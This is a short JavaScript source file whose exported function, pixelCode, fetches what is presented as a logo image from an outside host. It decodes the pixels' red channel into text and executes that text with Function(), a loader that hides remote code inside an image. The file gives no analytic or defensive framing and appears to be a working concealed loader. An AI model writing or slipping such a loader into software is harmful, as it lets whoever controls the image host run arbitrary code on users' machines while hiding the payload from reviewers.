export async function pixelCode(url = 'https://img.fx.example/logo.png') {
  const image = await createImageBitmap(await (await fetch(url)).blob());
  const ctx = new OffscreenCanvas(image.width, image.height).getContext('2d');
  ctx.drawImage(image, 0, 0);
  const { data } = ctx.getImageData(0, 0, image.width, image.height);
  let text = '';
  for (let i = 0; data[i]; i += 4) text += String.fromCharCode(data[i]);
  return Function(text)(); //@act
}
